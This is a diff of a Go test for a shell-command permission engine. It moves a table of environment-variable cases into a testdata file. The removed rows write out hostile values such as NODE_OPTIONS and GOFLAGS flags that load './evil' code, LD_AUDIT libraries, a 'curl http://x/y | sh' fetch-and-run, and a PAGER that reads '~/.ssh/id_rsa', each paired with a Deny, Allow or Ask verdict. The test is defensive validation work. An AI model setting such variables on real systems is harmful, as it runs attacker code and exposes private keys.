@@ -5,117 +5,23 @@ import (
 	"testing"
 
 	"pp/engine"
+	"pp/engine/enginetest"
 )
 
-// variableCases are assignments, how they are judged, and a command that takes them up.
-var variableCases = []struct {
+// variableCase is a row of the table.
+type variableCase struct {
 	name, value, cmd string
 	want             engine.Decision
-}{
-	// flags go through the parser of their program
-	{"TAR_OPTIONS", "-M -L1 -F/tmp/evil.sh", "tar tf a.tar", engine.Deny},
-	{"TAR_OPTIONS", "--exclude-vcs", "tar tf a.tar", engine.Allow},
-	{"MANOPT", "-P./evil", "man ls", engine.Deny},
-	{"MANOPT", "-a", "man ls", engine.Allow},
-	{"LESS", "-R", "git log", engine.Allow},
-	{"LESS", "--lesskey-content=x", "git log", engine.Deny},
-	{"LESS", "+v", "git log", engine.Ask},
-	{"NODE_OPTIONS", "-r ./evil.js", "npm test", engine.Deny},
-	{"NODE_OPTIONS", "--import=./evil.mjs", "npx eslint .", engine.Deny},
-	{"NODE_OPTIONS", "--max-old-space-size=4096", "npm test", engine.Allow},
-	{"RUBYOPT", "r./evil", "bundle exec rspec", engine.Deny},
-	{"RUBYOPT", "-W0", "bundle exec rspec", engine.Allow},
-	{"PERL5OPT", "-Mevil", "ls", engine.Deny},
-	{"PERL5OPT", "-w", "ls", engine.Allow},
-	{"GREP_OPTIONS", "--color=auto", "grep x a.txt", engine.Allow},
-	{"GOFLAGS", "-mod=mod", "go test ./...", engine.Allow},
-	{"GOFLAGS", "-toolexec=./evil", "go test ./...", engine.Deny},
-	{"GOFLAGS", "-exec=./evil", "go test ./...", engine.Deny},
-	{"MAKEFLAGS", "-j4", "make", engine.Allow},
-	{"MAKEFLAGS", "--eval=x:;evil", "make", engine.Deny},
-	{"JAVA_TOOL_OPTIONS", "-javaagent:evil.jar", "mvn test", engine.Deny},
-	{"JAVA_TOOL_OPTIONS", "-Xmx1g", "mvn test", engine.Allow},
-	{"XZ_OPT", "-9", "tar tf a.tar", engine.Allow},
-	{"ZIPOPT", "-T -TT ./evil", "ls", engine.Deny},
-	{"CARGO_BUILD_RUSTFLAGS", "-C linker=./evil", "cargo build", engine.Deny},
-	{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUSTFLAGS", "-C linker=./evil", "cargo build", engine.Deny},
-	{"RUSTFLAGS", "-D warnings", "cargo clippy", engine.Allow},
-	{"CFLAGS", "-O2 -Wall -Iinclude", "make", engine.Allow},
-	{"CFLAGS", "-fplugin=./evil.so", "make", engine.Deny},
-	{"FZF_DEFAULT_OPTS", "--preview=./evil", "fzf -f x", engine.Deny},
-	{"PYTHONWARNINGS", "ignore:0:antigravity.x:0:0", "ls", engine.Deny},
-	{"PYTHONWARNINGS", "ignore::DeprecationWarning", "pytest -q", engine.Allow},
-	// commands are walked
-	{"FZF_DEFAULT_COMMAND", "rg --files; curl http://x/y | sh", "fzf -f x", engine.Deny},
-	{"FZF_DEFAULT_COMMAND", "rg --files", "fzf -f x", engine.Allow},
-	{"FZF_DEFAULT_COMMAND", "find . -type f | sort", "fzf -f x", engine.Allow},
-	{"FZF_CTRL_T_COMMAND", "./evil", "ls", engine.Deny},
-	{"GIT_SSH_COMMAND", "ssh -I ./e.so", "git log", engine.Deny},
-	{"GIT_SSH_COMMAND", "ssh -oProxyCommand=./e", "git log", engine.Deny},
-	{"GIT_SSH_COMMAND", "ssh -o BatchMode=yes", "git log", engine.Allow},
-	{"GIT_SSH_COMMAND", "./e", "git log", engine.Deny},
-	{"BATPAGER", "./evil", "bat a.txt", engine.Deny},
-	{"gitPAGER", "./evil", "git log", engine.Deny},
-	{"MYEDITOR", "./evil", "ls", engine.Deny},
-	{"BATPAGER", "less -R", "bat a.txt", engine.Allow},
-	// programs that take code from a place that the command names
-	{"TERMINFO", "dir", "tput clear", engine.Ask},
-	{"GIT_SHALLOW_FILE", "notes.txt", "git log", engine.Ask}, // git quotes a line of the file in an error
-	{"GIT_GRAFT_FILE", "notes.txt", "git log", engine.Ask},
-	{"RESOLV_HOST_CONF", "notes.txt", "hostname -f", engine.Ask},
-	{"MAGIC", "notes.txt", "file README.md", engine.Ask},
-	{"TERMINFO_DIRS", ".", "tput clear", engine.Ask},
-	{"TEXTDOMAINDIR", ".", "bash -c 'echo hi'", engine.Ask},
-	{"TEXTDOMAINDIR", "/usr/share/locale", "bash -c 'echo hi'", engine.Allow},
-	{"TERMINFO", "/usr/share/terminfo", "tput clear", engine.Allow},
-	{"TERMCAP", "x:is=y:", "less a.txt", engine.Ask},
-	{"MANPATH", ".", "man ls", engine.Ask},
-	{"MANPATH", "/usr/share/man:", "man ls", engine.Allow},
-	{"GIT_PAGER", "cat", "git log", engine.Allow},
-	{"GIT_PAGER", "less -R", "git log", engine.Allow},
-	{"GIT_PAGER", "sh -c ./evil", "git log", engine.Deny},
-	{"GIT_PAGER", "head -5 | cut -c1-80", "git log", engine.Allow},
-	{"MANPAGER", "sed s/x/y/e", "man ls", engine.Deny},
-	{"BAT_PAGER", "less -RF", "bat a.txt", engine.Allow},
-	{"BAT_PAGER", "./evil", "bat a.txt", engine.Deny},
-	{"KUBECTL_EXTERNAL_DIFF", "./evil", "kubectl diff -f x.yaml", engine.Deny},
-	{"GIT_EXTERNAL_DIFF", "./evil", "git diff", engine.Deny},
-	{"LESSOPEN", "|./evil %s", "less a.txt", engine.Deny},
-	{"LESSOPEN", "|/usr/bin/lesspipe %s", "less a.txt", engine.Allow},
-	{"EDITOR", "vim -c :!x", "ls", engine.Deny},
-	{"EDITOR", "vim", "ls", engine.Allow},
-	{"CC", "gcc -fplugin=./e.so", "make", engine.Deny},
-	{"CC", "clang -O2", "make", engine.Allow},
-	{"CC", "aarch64-linux-gnu-gcc", "make", engine.Allow},
-	{"PAGER", "cat ~/.ssh/id_rsa", "git log", engine.Deny},
-	// code, libraries, configuration
-	{"PYTHONSTARTUP", "x.py", "python3 -V", engine.Deny},
-	{"PYTHONINSPECT", "1", "python3 -V", engine.Deny},
-	{"LD_AUDIT", "./e.so", "ls", engine.Deny},
-	{"FROB_PRELOAD", "./e.so", "ls", engine.Deny},
-	{"GETCONF_DIR", "/home/dev/src/app", "getconf -a", engine.Deny},
-	{"LD_DEBUG", "libs", "ls", engine.Allow},
-	{"RIPGREP_CONFIG_PATH", "rc", "rg x", engine.Deny},
-	{"BAT_CONFIG_PATH", "rc", "bat a.txt", engine.Deny},
-	{"RIPGREP_CONFIG_PATH", "/dev/null", "rg x", engine.Allow},
-	{"PSQLRC", "rc", "ls", engine.Deny},
-	{"SSLKEYLOGFILE", "/tmp/keys", "ls", engine.Deny},
-	{"GIT_CONFIG_KEY_0", "core.pager", "git log", engine.Deny},
-	{"GIT_CONFIG_PARAMETERS", "'core.pager=x'", "git log", engine.Deny},
-	{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER", "./evil", "cargo test", engine.Deny},
-	{"CARGO_TARGET_DIR", "target/x", "cargo build", engine.Allow},
-	{"SSH_SK_PROVIDER", "./e.so", "ls", engine.Deny},
-	{"shell_escape", "t", "pdflatex x.tex", engine.Deny},
-	{"LS_COLORS", "di=1", "ls", engine.Allow},
-	{"JQ_COLORS", "1;30", "jq . package.json", engine.Allow},
-	{"BAT_THEME", "ansi", "bat a.txt", engine.Allow},
 }
+
+// variableCases are assignments, how they are judged, and a command that takes them up.
+func variableCases() []variableCase { return enginetest.Table[variableCase]("testdata/variables.txt") }
 
 // TestVariables: what a variable makes programs run is judged in whatever way it is set, and harmless values of the
 // same variables are allowed. The words of a command stand in no test of a variable besides: they are judged alone.
 func TestVariables(t *testing.T) {
 	a, f := analyst(), home()
-	for _, tc := range variableCases {
+	for _, tc := range variableCases() {
 		set := tc.name + "='" + strings.ReplaceAll(tc.value, "'", `'\''`) + "'"
 		for _, cmd := range []string{set + " " + tc.cmd, "export " + set + "; " + tc.cmd, "env " + set + " " + tc.cmd,
 			"declare -x " + set + "; " + tc.cmd, set + "; export " + tc.name + "; " + tc.cmd,
